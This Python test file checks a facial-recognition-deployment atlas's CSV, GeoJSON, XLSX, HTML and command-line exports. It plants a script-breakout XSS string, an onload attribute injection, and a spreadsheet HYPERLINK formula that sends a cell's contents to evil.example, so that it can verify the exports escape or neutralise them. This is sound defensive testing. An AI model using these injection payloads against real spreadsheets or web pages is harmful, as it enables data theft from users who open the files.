"""CSV/GeoJSON round trips through the loader, the datapackage, the citation, and the CLI."""

import csv
import io
import json
import re
import zipfile
from datetime import date

import openpyxl
import pytest
import synthetic
from snapshots import snapshot_of

from geo import metadata, schema, snapshot
from geo.citation import citation, credit_line, data_version
from geo.export import csv_metadata, datapackage, to_csv, to_geojson, to_xlsx
from geo.filters import Filters, apply_filters, build_vocabulary, selection_sentence, year_bounds
from geo.load import load_atlas, read_deployments
from geo.snapshot_html import embed_code, embed_codes
from geo.validate import DATA_DIR, CountryIndex
from geo.versions import is_dated_version, release_missing

HOSTILE = "</script><script>alert(1)</script>${x}`"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def comparable(frame):
    columns = list(schema.DEPLOYMENT_FIELD_NAMES)
    rows = frame[columns].to_dict("records")
    for row, point in zip(rows, frame.geometry):
        row["xy"] = (round(point.x, 6), round(point.y, 6))
        for key in ("year_end", "cameras"):
            row[key] = None if row[key] is None or str(row[key]) == "<NA>" else int(row[key])
    return sorted(rows, key=lambda r: r["id"])


@pytest.fixture
def rich_atlas(tmp_path):
    features = synthetic.deployments()
    features[0]["properties"]["sources"].append(
        {**synthetic.source(2), "quote": 'He said "no; never", twice, ' + HOSTILE}
    )
    features[1]["properties"]["description"] = "Line one,\nline two; with, commas"
    features[2]["properties"]["name"] = FORMULA
    features[2]["properties"]["operator"] = "'=already quoted"
    features[3]["properties"]["description"] = "-2 cameras, +3 gates"
    features[3]["properties"]["sources"][0]["title"] = "@SUM(A1:A9)"
    features[1]["properties"]["vendor_roles"] = {"acme": "camera maker", "bolt": "face-recognition software"}
    features[4]["properties"]["history"] = [
        {"year": 2016, "status": "operational", "source": 0},
        {"year": 2021, "status": "suspended", "source": 0},
    ]
    return load_atlas(synthetic.write_dataset(tmp_path / "data", features))


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_exports_load_back_without_losing_a_field(rich_atlas, tmp_path, fmt):
    text = to_csv(rich_atlas.deployments) if fmt == "csv" else to_geojson(rich_atlas.deployments)
    path = tmp_path / f"out.{fmt}"
    path.write_text(text, encoding="utf-8")
    index = CountryIndex(synthetic.countries_geojson()["features"])
    loaded, problems = read_deployments(path, set(rich_atlas.vendors["id"]), index)
    assert problems == []
    assert comparable(loaded) == comparable(rich_atlas.deployments)


def test_csv_cells_never_start_a_spreadsheet_formula(rich_atlas):
    rows = list(csv.reader(io.StringIO(to_csv(rich_atlas.deployments))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells and "''=already quoted" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not is_number(cell))]


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_is_readable(rich_atlas):
    header, first = to_csv(rich_atlas.deployments).splitlines()[:2]
    assert header.startswith(
        "\ufeffid,kind,name,place,country,country_name,precision,vendors,vendor_names,vendor_roles,operator,sectors"
    )
    assert "source2_quote" in header and "source2_kind" in header
    airport = [line for line in to_csv(rich_atlas.deployments).splitlines() if line.startswith("aa-airport")][0]
    assert "acme; bolt" in airport


def test_csv_opens_as_utf8_with_a_bom_with_names_beside_ids_and_loads_back(rich_atlas, tmp_path):
    path = tmp_path / "out.csv"
    path.write_bytes(to_csv(rich_atlas.deployments, rich_atlas.country_names).encode("utf-8"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # what Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    airport = next(r for r in rows if r["id"] == "aa-airport")
    assert airport["vendor_names"] == "Acme Vision; Bolt AI" and airport["country_name"] == "Aland"
    assert airport["source2_kind"] == "primary"
    loaded, problems = read_deployments(
        path, set(rich_atlas.vendors["id"]), CountryIndex(synthetic.countries_geojson()["features"])
    )
    assert problems == [] and comparable(loaded) == comparable(rich_atlas.deployments)


def test_datapackage_describes_every_field_and_the_shipped_one_is_current():
    package = datapackage("abc")
    names = [f["name"] for f in package["resources"][0]["schema"]["fields"]]
    assert names == list(schema.DEPLOYMENT_FIELD_NAMES)
    resources = {r["name"]: r for r in package["resources"]}
    assert [f["name"] for f in resources["vendors"]["schema"]["fields"]] == list(schema.VENDOR_FIELD_NAMES)
    outlines = json.loads((DATA_DIR / "countries.geojson").read_text())["features"]
    assert {f["name"] for f in resources["countries"]["schema"]["fields"]} == {
        k for f in outlines for k in f["properties"]
    }
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    shipped = json.loads((DATA_DIR / "datapackage.json").read_text())
    assert shipped == datapackage(data_version(DATA_DIR)), (
        "run: python -m geo.export to regenerate data/datapackage.json"
    )


def test_data_version_changes_with_the_data(data_dir):
    before = data_version(data_dir)
    assert before == data_version(data_dir) and before.startswith("unreleased+")
    rows = (data_dir / "vendors.csv").read_text().replace("Makes cameras.", "Makes cameras and software.")
    (data_dir / "vendors.csv").write_text(rows)
    assert data_version(data_dir) != before


def test_the_shipped_data_is_a_dated_release_and_the_datapackage_carries_it():
    assert is_dated_version(data_version(DATA_DIR)), release_missing(DATA_DIR)
    assert json.loads((DATA_DIR / "datapackage.json").read_text())["version"] == data_version(DATA_DIR)


def test_citation_names_project_version_publisher_view_link_licence_and_date():
    text = citation("Showing 2 of 5 deployments: vendor Bolt AI", "http://h/?vendor=bolt", "abc123", date(2026, 11, 22))
    assert text == (
        "Facial Recognition Atlas (data version abc123), Facial Recognition Atlas project, "
        "maintained by Facial Recognition Atlas maintainers. "
        "Showing 2 of 5 deployments: vendor Bolt AI. http://h/?vendor=bolt. Licence: CC BY 4.0. Retrieved 2026-11-22."
    )


@pytest.fixture
def other_metadata(tmp_path, monkeypatch):
    """data/metadata.json replaced by a copy naming another publisher and licence."""
    entry = json.loads((DATA_DIR / "metadata.json").read_text())
    entry["publisher"] = "Test Desk Collective"
    entry["maintainer"] = "Test Maintainers"
    entry["licence"] = {
        "id": "ODbL-1.0",
        "name": "Open Data Commons Open Database License 1.0",
        "short_name": "ODbL 1.0",
        "url": "https://opendatacommons.org/licenses/odbl/1-0/",
    }
    path = tmp_path / "metadata.json"
    path.write_text(json.dumps(entry))
    monkeypatch.setattr(metadata, "METADATA_PATH", path)
    return entry


def test_citation_and_credit_line_take_publisher_maintainer_and_licence_from_the_metadata_file(other_metadata):
    text = citation("Showing 1 of 5 deployments", "http://h/", "abc123", date(2026, 11, 22))
    assert "Test Desk Collective, maintained by Test Maintainers." in text
    assert "Licence: ODbL 1.0." in text and "CC BY" not in text
    credit = credit_line("abc123", "http://h/")
    assert "Test Desk Collective, maintained by Test Maintainers" in credit
    assert "Data ODbL 1.0" in credit and "CC BY" not in credit


def test_datapackage_and_csv_metadata_take_publisher_and_licence_from_the_metadata_file(other_metadata):
    package = datapackage("abc")
    assert package["licenses"] == [
        {
            "name": "ODbL-1.0",
            "title": "Open Data Commons Open Database License 1.0",
            "path": "https://opendatacommons.org/licenses/odbl/1-0/",
        }
    ]
    assert {"title": "Test Desk Collective", "role": "publisher"} in package["contributors"]
    assert {"title": "Test Maintainers", "role": "maintainer"} in package["contributors"]
    assert "homepage" not in package  # none is known: null in the file
    meta = csv_metadata("cite", "abc", 3)
    assert meta["publisher"] == "Test Desk Collective" and "ODbL 1.0" in meta["licence"]
    assert meta["licence_url"] == "https://opendatacommons.org/licenses/odbl/1-0/"


def test_snapshot_html_shows_the_publisher_and_licence_of_the_metadata_file(rich_atlas, other_metadata):
    page = snapshot_of(
        rich_atlas,
        title="T",
        sentence="S",
        citation=citation("S", "http://h/", "abc"),
    )
    footer = re.search(r'<span id="atlas-citation">(.*?)</span>', page)
    assert footer and "Test Desk Collective" in footer.group(1) and "Licence: ODbL 1.0" in footer.group(1)


def test_a_metadata_file_without_a_publisher_is_refused_with_the_field_named(tmp_path):
    entry = json.loads((DATA_DIR / "metadata.json").read_text())
    entry["publisher"] = ""
    (tmp_path / "metadata.json").write_text(json.dumps(entry))
    with pytest.raises(ValueError, match="field 'publisher': received ''; expected non-empty text"):
        metadata.load_metadata(tmp_path / "metadata.json")


def test_snapshot_html_is_self_contained_and_escapes_text(rich_atlas):
    page = snapshot_of(
        rich_atlas,
        title="T <b>",
        sentence=HOSTILE,
        citation="C",
    )
    assert "<script src" not in page and "<link" not in page and "https://cdn" not in page
    assert page.count("</script>") == 2  # only the two script elements the template opens
    assert "T &lt;b&gt;" in page
    assert 'onload="' not in embed_code('x" onload="alert(1)', "t")


def test_embed_code_is_responsive_with_fixed_size_variants():
    codes = list(embed_codes("https://news.example.org/map.html", "Atlas"))
    snippets = list(embed_codes("https://news.example.org/map.html", "Atlas").values())
    assert codes == ["Responsive (the height follows the width)", "Fixed, 600 px tall", "Fixed, 800 px tall"]
    wrapper, frame = snippets[0].split("<iframe", 1)
    assert "aspect-ratio:16 / 10" in wrapper and "min-height:" in wrapper and "width:100%" in wrapper
    assert "width:100%;height:100%" in frame and 'height="' not in frame
    assert 'height="600"' in snippets[1] and 'height="800"' in snippets[2]
    assert all('src="https://news.example.org/map.html"' in s and 'sandbox="allow-scripts' in s for s in snippets)


def test_cli_writes_what_the_app_would_for_the_same_filters(tmp_path, data_dir, capsys):
    out = tmp_path / "out"
    out.mkdir()
    code = snapshot.main(
        [
            "--data-dir",
            str(data_dir),
            "--vendor",
            "acme",
            "--from",
            "2016",
            "--csv",
            str(out / "s.csv"),
            "--geojson",
            str(out / "s.geojson"),
            "--html",
            str(out / "s.html"),
            "--png",
            str(out / "s.png"),
        ]
    )
    assert code == 0
    atlas = load_atlas(data_dir)
    filters = Filters(vendors=("acme",), years=(2016, None))
    selection = apply_filters(atlas.deployments, filters)
    assert (out / "s.csv").read_text() == to_csv(selection, atlas.country_names)
    assert (out / "s.geojson").read_text() == to_geojson(selection)
    meta = json.loads((out / "s.csv-metadata.json").read_text())
    vocabulary = build_vocabulary(atlas, year_bounds(atlas.deployments))
    sentence = selection_sentence(len(selection), 5, filters, vocabulary)
    assert sentence in meta["citation"] and "vendor=acme&from=2016" in meta["citation"]
    assert (out / "s.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert sentence in (out / "s.html").read_text()
    assert sentence in capsys.readouterr().out


@pytest.mark.parametrize(
    "args,message",
    [
        (["--vendor", "nobody", "--csv", "x.csv"], "vendor='nobody' (no deployment by this vendor)"),
        (["--from", "abc", "--csv", "x.csv"], "from='abc'"),
        (["--vendor", "acme"], "nothing to write"),
        (["--png-size", "10x10", "--png", "x.png"], "invalid choice"),
        (["--csv", "/nonexistent-folder/x.csv"], "no such folder for the output: /nonexistent-folder"),
        (["--region", "atlantis", "--png", "x.png"], "invalid choice: 'atlantis'"),
        (["--highlight", "no-such-id", "--png", "x.png"], "--highlight no-such-id: no record with that id"),
        (["--vendor", "cobalt", "--country", "AA", "--gif", "x.gif"], "no record matches these filters"),
    ],
)
def test_cli_bad_arguments_give_a_clear_message_and_exit_2(args, message, data_dir, capsys):
    with pytest.raises(SystemExit) as exit_info:
        snapshot.main(["--data-dir", str(data_dir), *args])
    assert exit_info.value.code == 2
    assert message in capsys.readouterr().err


def test_cli_reports_an_output_it_cannot_write_without_a_traceback(tmp_path, data_dir, capsys):
    (tmp_path / "taken").mkdir()  # a folder where the CSV should go
    code = snapshot.main(["--data-dir", str(data_dir), "--csv", str(tmp_path / "taken")])
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith("error: could not write") and str(tmp_path / "taken") in err and "Traceback" not in err


def test_cli_writes_vector_images_and_animations_with_the_same_filters(tmp_path, data_dir):
    from PIL import Image
    from pypdf import PdfReader

    out = tmp_path / "out"
    out.mkdir()
    files = {fmt: out / f"s.{fmt}" for fmt in ("png", "svg", "pdf", "gif", "mp4")}
    args = ["--data-dir", str(data_dir), "--country", "BB", "--region", "africa", "--labels", "--size", "1080x1080"]
    args += ["--highlight", "bb-city", "--from", "2019"]
    for fmt, path in files.items():
        args += [f"--{fmt}", str(path)]
    assert snapshot.main(args) == 0
    assert Image.open(files["png"]).size == (1080, 1080)
    svg = files["svg"].read_text()
    assert "Bland safe city" in svg and "Map framed on Africa" in svg  # the highlighted record, the framing
    assert "Facial Recognition Atlas" in PdfReader(files["pdf"]).pages[0].extract_text()
    gif = Image.open(files["gif"])
    assert (
        gif.size == (1080, 1080) and gif.n_frames == len(range(2019, 2022)) + 1
    )  # from 2019 to the data's last year, then the pause
    assert files["mp4"].read_bytes()[4:8] == b"ftyp"


def open_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_xlsx_holds_the_selections_rows_with_the_csv_columns_and_names(rich_atlas):
    selection = rich_atlas.deployments
    book = open_xlsx(to_xlsx(selection, rich_atlas.country_names, "cite", "abc"))
    assert book.sheetnames == ["Deployments", "Sources", "Citation"]
    sheet = book["Deployments"]
    header, *rows = sheet_rows(sheet)
    csv_header = next(csv.reader(io.StringIO(to_csv(selection).removeprefix("\ufeff"))))
    assert header == csv_header
    records = [dict(zip(header, row)) for row in rows]
    assert [r["id"] for r in records] == list(selection["id"])
    airport = next(r for r in records if r["id"] == "aa-airport")
    assert airport["vendor_names"] == "Acme Vision; Bolt AI" and airport["country_name"] == "Aland"
    assert airport["year_start"] == int(selection.set_index("id").loc["aa-airport", "year_start"])
    assert all(cell.font.bold for cell in sheet[1]) and sheet.freeze_panes == "A2"
    assert 4 < sheet.column_dimensions["C"].width <= 60  # the name column is as wide as its names, within limits


def test_xlsx_sources_sheet_has_every_source_of_every_record(rich_atlas):
    selection = rich_atlas.deployments
    header, *rows = sheet_rows(open_xlsx(to_xlsx(selection, rich_atlas.country_names, "cite", "abc"))["Sources"])
    assert header == ["deployment_id", "deployment_name", "source_number", *schema.SOURCE_FIELD_NAMES]
    expected = [
        [record["id"], record["name"], n, *(s[k] for k in schema.SOURCE_FIELD_NAMES)]
        for record in selection.to_dict("records")
        for n, s in enumerate(record["sources"], start=1)
    ]
    assert rows == expected and len(rows) > len(selection)  # the first record has two sources


def test_xlsx_keeps_formula_looking_text_as_text(rich_atlas):
    data = to_xlsx(rich_atlas.deployments, rich_atlas.country_names, "cite", "abc")
    book = open_xlsx(data)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    formula_cell = next(c for c in cells if c.value == FORMULA)  # exactly the text, no apostrophe added
    assert formula_cell.data_type == "s" and formula_cell.quotePrefix
    assert "@SUM(A1:A9)" in [c.value for c in cells] and "'=already quoted" in [c.value for c in cells]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not [x for x in sheets if "<f>" in x or "<f " in x]  # no formula anywhere


def test_xlsx_citation_sheet_has_citation_version_rows_publisher_and_licence(rich_atlas, other_metadata):
    book = open_xlsx(to_xlsx(rich_atlas.deployments, rich_atlas.country_names, "The citation text", "abc123"))
    about = dict(sheet_rows(book["Citation"])[1:])
    assert about["Citation"] == "The citation text" and about["Data version"] == "abc123"
    assert about["Rows"] == len(rich_atlas.deployments)
    assert about["Publisher"] == "Test Desk Collective" and "ODbL 1.0" in about["Licence"]


def test_csv_and_xlsx_carry_every_source_not_only_the_first(tmp_path):
    features = synthetic.deployments()
    features[0]["properties"]["sources"] += [synthetic.source(2, "primary"), synthetic.source(3, "research")]
    atlas = load_atlas(synthetic.write_dataset(tmp_path / "data", features))
    rows = list(csv.DictReader(io.StringIO(to_csv(atlas.deployments).removeprefix("\ufeff"))))
    first = next(r for r in rows if r["id"] == features[0]["properties"]["id"])
    assert [first[f"source{n}_url"] for n in (1, 2, 3)] == [s["url"] for s in features[0]["properties"]["sources"]]
    assert first["source3_kind"] == "research"
    sources = sheet_rows(open_xlsx(to_xlsx(atlas.deployments, atlas.country_names, "c", "v"))["Sources"])[1:]
    assert [r[6] for r in sources if r[0] == first["id"]] == [first[f"source{n}_url"] for n in (1, 2, 3)]


def test_cli_writes_the_xlsx_with_the_selected_rows(tmp_path, data_dir, capsys):
    out = tmp_path / "s.xlsx"
    assert snapshot.main(["--data-dir", str(data_dir), "--vendor", "acme", "--xlsx", str(out)]) == 0
    atlas = load_atlas(data_dir)
    selection = apply_filters(atlas.deployments, Filters(vendors=("acme",)))
    book = open_xlsx(out.read_bytes())
    assert [row[0] for row in sheet_rows(book["Deployments"])[1:]] == list(selection["id"])
    about = dict(sheet_rows(book["Citation"])[1:])
    assert about["Citation"] == capsys.readouterr().out.strip() and "vendor=acme" in about["Citation"]


def test_cli_link_and_citation_carry_the_dated_release(tmp_path, data_dir, capsys):
    from geo.versions import release

    assert release(data_dir, "2026.12.01") == "2026.12.01"
    assert snapshot.main(["--data-dir", str(data_dir), "--vendor", "acme", "--csv", str(tmp_path / "s.csv")]) == 0
    printed = capsys.readouterr().out
    assert "(data version 2026.12.01)" in printed and "v=2026.12.01" in printed


@pytest.mark.parametrize("cut", [0, 1, 3, 5])
def test_data_files_written_part_by_part_are_the_files_of_the_whole_selection(atlas, cut):
    from geo.export import to_features, write_csv, write_geojson

    whole = atlas.deployments
    parts = [whole.iloc[:cut], whole.iloc[cut:]]
    csv_out, geojson_out = io.StringIO(), io.StringIO()
    write_csv(parts, csv_out, atlas.country_names, max_sources=max(len(s) for s in whole["sources"]))
    write_geojson(parts, geojson_out)
    assert csv_out.getvalue() == to_csv(whole, atlas.country_names)
    collection = {"type": "FeatureCollection", "features": to_features(whole)}
    assert geojson_out.getvalue() == json.dumps(collection, ensure_ascii=False, indent=1)
    empty = io.StringIO()
    write_geojson([whole.iloc[0:0]], empty)
    assert json.loads(empty.getvalue()) == {"type": "FeatureCollection", "features": []}
